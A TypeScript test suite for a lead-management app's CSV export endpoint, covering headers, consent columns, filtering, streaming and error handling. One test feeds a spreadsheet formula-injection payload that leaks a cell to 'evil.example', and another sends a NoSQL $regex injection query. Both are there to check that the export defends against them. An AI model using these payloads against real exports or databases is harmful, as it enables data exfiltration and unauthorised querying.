import { mongo } from 'mongoose';
import { expect, test, vi } from 'vitest';
import type { Caller } from '../../support/caller';
import { eventually } from '../../support/eventually';
import { sendWitnessed } from '../../support/graded';
import { make } from '../../support/make';
import { shareApp } from '../../support/share-app';

const shared = shareApp();

const path = '/api/exports/clients.csv';
const header =
  'id,createdAt,firstName,lastName,email,phoneNumber,caseType,additionalInfo,answerBy,bestTime,ip_address,jornaya_ip,externalId,campaign,subId1,subId2,subId3,subId4,price,dateOfBirth,street,city,state,zip,secondPhone,language,speaksFor,landingPageUrl,userAgent,consentText,consentAt,jornayaLeadId,trustedFormCertUrl,source,duplicateOf,status,statusReason,assignedTo,updatedAt,contact_call,contact_text,contact_autocall,contact_autotext,contact_email';

const firstNames = async (admin: Caller, query = '') =>
  (await admin.get(`${path}${query}`)).text
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .map((row) => row.split(',')[2]);

test('the export is a CSV file of all leads, newest first', async () => {
  const app = await shared();
  const { body: lead } = await app.anyone.post(
    '/api/clients',
    make.client({ jornaya_ip: 'j', additionalInfo: 'Hello', price: 12.5, consentText: 'I agree.' }),
  );
  await app.anyone.post('/api/clients', make.client({ firstName: 'Ana' }));
  const admin = await app.signInAsAdmin();
  const file = await admin.get(path);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(file.headers.get('content-disposition')).toBe('attachment; filename=clients.csv');
  expect(file.headers.get('cache-control')).toBe('no-store');
  const rows = file.text.split('\r\n');
  expect(rows[0]!.replace('\uFEFF', '')).toBe(header);
  expect(rows[1]).toContain('Ana');
  expect(rows[2]).toBe(
    `${lead.id},${lead.createdAt},Maria,Lopez,maria.lopez@example.com,(415) 555-0132,1,Hello,,,203.0.113.7,j,,,,,,,12.5,,,,,,,,,,,I agree.,,,,website,,New,,,${lead.createdAt},yes,NO_CONSENT,NO_CONSENT,NO_CONSENT,yes`,
  );
  expect(rows.slice(3)).toEqual(['']);
});

test('the export says of each way to reach a person what the contact gate says of it', async () => {
  const app = await shared();
  const admin = await app.signInAsAdmin();
  const send = (different: object) => sendWitnessed(app, different);
  await send({ firstName: 'Ana', email: 'ana@example.com', phoneNumber: '(415) 555-0101' });
  const ben = await send({ firstName: 'Ben', email: 'ben@example.com', phoneNumber: '(415) 555-0102' });
  const cem = await send({ firstName: 'Cem', email: 'cem@example.com', phoneNumber: '(415) 555-0103' });
  const dee = await send({ firstName: 'Dee', email: 'dee@example.com', phoneNumber: '(415) 555-0104' });
  await admin.post(`/api/clients/${ben}/consent/withdraw`, { source: 'stop', channel: 'text' });
  await admin.mutate('contact.suppress', { id: cem });
  await app.models.clients.updateOne({ _id: dee }, { $set: { phoneMark: 'Wrong number' } });
  const rows = (await admin.get(path)).text.trimEnd().split('\r\n').slice(1);
  const contactColumns = Object.fromEntries(rows.map((row) => [row.split(',')[2], row.split(',').slice(-5)]));
  expect(contactColumns).toEqual({
    Ana: ['yes', 'yes', 'NOT_CONFIRMED', 'NOT_CONFIRMED', 'yes'],
    Ben: ['yes', 'WITHDRAWN', 'WITHDRAWN', 'WITHDRAWN', 'yes'],
    Cem: ['SUPPRESSED', 'SUPPRESSED', 'SUPPRESSED', 'SUPPRESSED', 'SUPPRESSED'],
    Dee: ['WRONG_NUMBER', 'WRONG_NUMBER', 'WRONG_NUMBER', 'WRONG_NUMBER', 'yes'],
  });
});

test('the file begins with the mark by which a spreadsheet knows UTF-8', async () => {
  const app = await shared();
  const admin = await app.signInAsAdmin();
  const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
});

test('the export holds what the current search shows, in its order', async () => {
  const app = await shared();
  for (const firstName of ['Ben', 'Ana', 'Cem'])
    await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
  const admin = await app.signInAsAdmin();
  const { id } = (await admin.get('/api/clients?search=cem')).body[0];
  await admin.put(`/api/clients/${id}`, { status: 'Signed' });
  expect(await firstNames(admin)).toEqual(['Cem', 'Ana', 'Ben']);
  expect(await firstNames(admin, '?search=AN')).toEqual(['Ana']);
  expect(await firstNames(admin, '?search=.*')).toEqual([]);
  expect(await firstNames(admin, '?status=Signed')).toEqual(['Cem']);
  expect(await firstNames(admin, '?sort=firstName&order=asc')).toEqual(['Ana', 'Ben', 'Cem']);
});

test('a search that comes in a body is exported and stands in no log line', async () => {
  const app = await shared();
  for (const firstName of ['Ben', 'Ana', 'Cem'])
    await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
  const admin = await app.signInAsAdmin();
  const exported = async (body: unknown) => {
    const { status, text } = await admin.post(path, body);
    return [status, ...text.trimEnd().split('\r\n').slice(1)].map((row) => String(row).split(',')[2] ?? row);
  };
  expect(await exported({ search: 'ana@exam' })).toEqual([200, 'Ana']);
  expect(await exported({ sort: 'firstName' })).toEqual([200, 'Ana', 'Ben', 'Cem']);
  expect(JSON.stringify(app.logged)).not.toContain('ana@exam');

  expect((await admin.post(path, { sort: 'requestHash' })).status).toBe(400);
  expect((await admin.post(path, [])).status).toBe(400);
  const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
  expect((await admin.send('POST', path, { body: 'search=ana', headers: form })).status).toBe(415);
  expect((await app.anyone.post(path, {})).status).toBe(401);
  expect((await admin.put(path, {})).headers.get('allow')).toBe('GET, HEAD, POST, OPTIONS');
});

test('a formula from a visitor is text in the file', async () => {
  const app = await shared();
  const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
  await app.anyone.post(
    '/api/clients',
    make.client({ firstName: evil, phoneNumber: '+1 415 555 0132', lastName: 'a,"b"\nc' }),
  );
  const admin = await app.signInAsAdmin();
  const { text } = await admin.get(path);
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`);
  expect(text).toContain(`,'+1 415 555 0132,`);
  expect(text).toContain('"a,""b""\nc"');
});

test('a search that is wrong is a bad request', async () => {
  const app = await shared();
  const admin = await app.signInAsAdmin();
  for (const query of [
    'sort=requestHash',
    'status=x',
    'search=a&search=b',
    'assignedTo=x',
    'search[$regex]=.&order=up',
  ])
    expect([query, (await admin.get(`${path}?${query}`)).status]).toEqual([query, 400]);
});

test('many leads come in pieces, and all of them come', async () => {
  const app = await shared();
  const { body } = await app.anyone.post('/api/clients', make.client());
  const first = await app.models.clients.findById(body.id).lean();
  const copies = Array.from({ length: 3000 }, (_, index) => {
    const { _id, onceKeys: __, ...copy } = first!;
    return { ...copy, additionalInfo: `${index} ${'x'.repeat(500)}` };
  });
  await app.models.clients.collection.insertMany(copies as never[]);
  const admin = await app.signInAsAdmin();
  const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
  expect(response.headers.get('content-length')).toBeNull();
  const pieces = [];
  for await (const piece of response.body!) pieces.push(piece);
  expect(Buffer.concat(pieces).toString().split('\r\n')).toHaveLength(3003);
  expect(pieces.length).toBeGreaterThan(3);
});

test('a person who leaves in the middle of an export does not disturb the others', async () => {
  const app = await shared();
  const { body } = await app.anyone.post('/api/clients', make.client());
  const first = await app.models.clients.findById(body.id).lean();
  const copies = Array.from({ length: 2000 }, () => {
    const { _id, onceKeys: __, ...copy } = first!;
    return { ...copy, additionalInfo: 'x'.repeat(2000) };
  });
  await app.models.clients.collection.insertMany(copies as never[]);
  const admin = await app.signInAsAdmin();
  const abort = new AbortController();
  const response = await fetch(`${app.url}${path}`, { headers: admin.headers, signal: abort.signal });
  await response.body!.getReader().read();
  abort.abort();
  expect((await admin.get('/api/clients?limit=1')).status).toBe(200);
  expect(await firstNames(admin, '?search=nobody')).toEqual([]);
});

test('an export that the database breaks off is cut, not ended, and no stack is printed', async () => {
  const app = await shared();
  const admin = await app.signInAsAdmin();
  const printed = vi.spyOn(console, 'error').mockImplementation(() => undefined);
  const broken = async function* () {
    // After the first row was sent.
    await new Promise((resolve) => setTimeout(resolve, 200));
    throw new mongo.MongoNetworkError('connection 7 to db.internal:27017 closed');
  };
  const { find } = mongo.Collection.prototype;
  const reading = vi.spyOn(mongo.Collection.prototype, 'find').mockImplementation(function (
    this: mongo.Collection,
    ...question: unknown[]
  ) {
    const isRows = this.collectionName === 'clients' && (question[1] as { raw?: boolean })?.raw;
    return isRows ? (broken() as never) : find.apply(this, question as never);
  } as never);
  const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
  expect(response.status).toBe(200);
  await expect(response.text()).rejects.toThrow();
  expect(printed).not.toHaveBeenCalled();
  printed.mockRestore();
  reading.mockRestore();
  await eventually(() => app.logged.at(-1)).toMatchObject({ path, error: 'MongoNetworkError' });
});
